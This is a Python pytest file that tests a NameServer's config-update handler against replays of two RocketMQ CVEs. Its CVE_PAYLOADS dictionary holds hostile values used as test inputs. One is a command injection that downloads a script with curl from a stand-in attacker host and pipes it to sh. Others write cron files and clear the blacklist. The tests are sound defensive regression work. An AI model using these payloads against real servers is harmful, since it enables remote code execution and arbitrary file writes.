"""GET_NAMESRV_CONFIG (319) and UPDATE_NAMESRV_CONFIG (318), including replays of the CVEs.

CVE-2023-33246: unauthenticated config updates set a home/path key whose value the server later
executes. CVE-2023-37582: RocketMQ 5.1.1 black-listed `configStorePathName` instead of
`configStorePath`, so UPDATE_NAMESRV_CONFIG could still point the config file anywhere and write
it (arbitrary file write). Here only an explicit allowlist of switches is updatable: every such
request is refused and nothing is applied or written.
"""
from __future__ import annotations

from pathlib import Path

import pytest

from namesrv.channel import Channel
from namesrv.config import NamesrvConfig, parse_properties
from namesrv.kvconfig import KVConfigManager
from namesrv.processor import RequestProcessor
from namesrv.protocol import RemotingCommand, RequestCode, ResponseCode
from namesrv.routeinfo import RouteInfoManager

ATTACKER = Channel("tcp", b"attacker", "203.0.113.7:40000")


class Namesrv:
    def __init__(self, tmp_path: Path, **config) -> None:
        self.store = tmp_path / "conf" / "namesrv.properties"
        self.config = NamesrvConfig(kv_config_path=str(tmp_path / "kvConfig.json"),
                                    config_store_path=str(self.store), **config)
        self.kv = KVConfigManager(self.config.kv_config_path)
        self.processor = RequestProcessor(self.config, RouteInfoManager(self.config), self.kv)

    def update(self, body: bytes | None) -> RemotingCommand:
        request = RemotingCommand.decode(RemotingCommand.request(RequestCode.UPDATE_NAMESRV_CONFIG, None, body)
                                         .encode()[4:])
        return self.processor.process(request, ATTACKER)

    def get(self) -> RemotingCommand:
        return self.processor.process(RemotingCommand.request(RequestCode.GET_NAMESRV_CONFIG), ATTACKER)


@pytest.fixture
def ns(tmp_path) -> Namesrv:
    return Namesrv(tmp_path)


def test_get_namesrv_config_lists_every_key_sorted(ns):
    response = ns.get()
    assert response.code == 0 and response.ext_fields is None
    text = response.body.decode()
    keys = [line.split("=", 1)[0] for line in text.splitlines()]
    assert keys == sorted(NamesrvConfig.keys())
    assert parse_properties(text) == ns.config.to_properties()


def test_allowed_update_is_applied_and_persisted_atomically(ns):
    response = ns.update(b"# switches\norderMessageEnable = true\nenableTopicList:false\n")
    assert (response.code, response.remark, response.ext_fields) == (0, None, None)
    assert ns.config.order_message_enable is True and ns.config.enable_topic_list is False
    assert parse_properties(ns.store.read_text()) == {"orderMessageEnable": "true", "enableTopicList": "false"}
    assert sorted(p.name for p in ns.store.parent.iterdir()) == ["namesrv.properties"]  # no temp file left
    assert "orderMessageEnable=true" in ns.get().body.decode()


def test_an_update_rewrites_only_its_keys_in_the_operators_file(ns):
    """Comments, layout, other keys and repeats stay; command-line values never reach the file."""
    ns.store.parent.mkdir(parents=True, exist_ok=True)
    operators = ("# my NameServer\nlistenPort = 9876\n\n# order routes\norderMessageEnable=false\n"
                 "#enableTopicList=true\nkvConfigPath=/srv/kv.json\n")
    ns.store.write_text(operators)
    ns.config.listen_port = 39876  # as a --listenPort=39876 override would have it
    assert ns.update(b"orderMessageEnable=true\nenableTopicList=false\n").code == 0
    assert ns.store.read_text() == operators.replace("orderMessageEnable=false", "orderMessageEnable=true") + \
        "enableTopicList=false\n"


def test_empty_update_changes_nothing(ns):
    assert ns.update(None).code == 0
    assert ns.update(b"# only a comment\n").code == 0
    assert not ns.store.exists()


CVE_PAYLOADS = {
    # CVE-2023-33246 (broker/namesrv command execution through a home-directory key)
    "rocketmqHome": b"rocketmqHome=-c $@|sh . echo curl -s http://203.0.113.7/x.sh|sh;\n",
    # CVE-2023-37582: the config file path itself, then the KV file path
    "configStorePath": b"configStorePath=/tmp/evil-cron\nproductEnvName=* * * * * root sh -c id\n",
    "kvConfigPath": b"kvConfigPath=/etc/cron.d/evil\n",
    # emptying the black list first
    "configBlackList": b"configBlackList=\n",
    # an allowed key smuggled together with a forbidden one
    "mixed": b"orderMessageEnable=true\nconfigStorePath=/tmp/evil\n",
}


@pytest.mark.parametrize("name", sorted(CVE_PAYLOADS))
def test_black_listed_keys_are_refused_and_nothing_is_written(ns, tmp_path, name):
    before = ns.config.to_properties()
    response = ns.update(CVE_PAYLOADS[name])
    assert (response.code, response.remark) == (ResponseCode.NO_PERMISSION, "Can not update config in black list.")
    assert ns.config.to_properties() == before
    assert not ns.store.exists() and not Path("/tmp/evil").exists() and not Path("/tmp/evil-cron").exists()


UPDATABLE = ("deleteTopicWithBrokerRegistration, enableAllTopicList, enableTopicList, notifyMinBrokerIdChanged, "
             "orderMessageEnable, peerDivergenceEnable, returnOrderTopicConfigToBroker, supportActingMaster")


@pytest.mark.parametrize("body, reason", [
    (b"listenPort=1\n", f"listenPort: not updatable at runtime (updatable: {UPDATABLE})"),
    (b"defaultThreadPoolNums=1\nclientRequestThreadPoolNums=1\n",
     f"clientRequestThreadPoolNums, defaultThreadPoolNums: not updatable at runtime (updatable: {UPDATABLE})"),
    (b"zmqListenAddress=tcp://0.0.0.0:1\n", f"zmqListenAddress: not updatable at runtime (updatable: {UPDATABLE})"),
    (b"clusterTest=true\n", f"clusterTest: not updatable at runtime (updatable: {UPDATABLE})"),
    (b"productEnvName=x\n", f"productEnvName: not updatable at runtime (updatable: {UPDATABLE})"),
    # keys that do not exist are told apart, with the nearest one that does
    (b"configStorePathName=/tmp/evil\n",  # the key 5.1.1 black-listed by mistake
     "configStorePathName: unknown key (did you mean configStorePath?)"),
    (b"scanNotActiveBrokerIntervl=1\n", "scanNotActiveBrokerIntervl: unknown key (did you mean "
                                        "scanNotActiveBrokerInterval?)"),
    (b"no.such.key=1\n", "no.such.key: unknown key"),
    (b"ordreMessageEnable=true\nlistenPort=1\n", "ordreMessageEnable: unknown key (did you mean orderMessageEnable?); "
                                                   f"listenPort: not updatable at runtime (updatable: {UPDATABLE})"),
])
def test_keys_outside_the_allowlist_are_refused_by_name(ns, body, reason):
    before = ns.config.to_properties()
    response = ns.update(body)
    assert response.code == ResponseCode.NO_PERMISSION
    assert response.remark == f"Can not update config {reason}"
    assert ns.config.to_properties() == before and not ns.store.exists()


def test_the_allowlist_holds_only_feature_switches():
    """No path, port, address, pool size or list: only booleans can be changed remotely."""
    allowed = NamesrvConfig.remote_updatable()
    assert allowed, "some switches must stay updatable"
    defaults = NamesrvConfig()
    assert all(isinstance(defaults.get(key), bool) for key in allowed)
    assert not allowed & defaults.black_list()


def test_configured_black_list_extends_rocketmqs(tmp_path):
    ns = Namesrv(tmp_path, config_black_list="configBlackList;orderMessageEnable")
    response = ns.update(b"orderMessageEnable=true\n")
    assert (response.code, response.remark) == (ResponseCode.NO_PERMISSION, "Can not update config in black list.")
    assert ns.update(b"kvConfigPath=/x\n").code == ResponseCode.NO_PERMISSION  # the built-in ones always stay


def test_bad_value_names_the_key_and_applies_nothing(ns):
    response = ns.update(b"enableTopicList=false\norderMessageEnable=maybe\n")
    assert response.code == ResponseCode.SYSTEM_ERROR
    assert "orderMessageEnable" in response.remark and "maybe" in response.remark
    assert ns.config.enable_topic_list is True and not ns.store.exists()


def test_undecodable_body(ns):
    response = ns.update(b"orderMessageEnable=\xff\xfe\n")
    assert (response.code, response.remark) == (ResponseCode.SYSTEM_ERROR, "string2Properties error")


def test_unwritable_store_path_leaves_the_config_unchanged(ns):
    ns.store.mkdir(parents=True)  # a directory where the file should go
    response = ns.update(b"orderMessageEnable=true\n")
    assert (response.code, response.remark) == (ResponseCode.SYSTEM_ERROR, f"cannot write {ns.store}: Is a directory")
    assert ns.config.order_message_enable is False
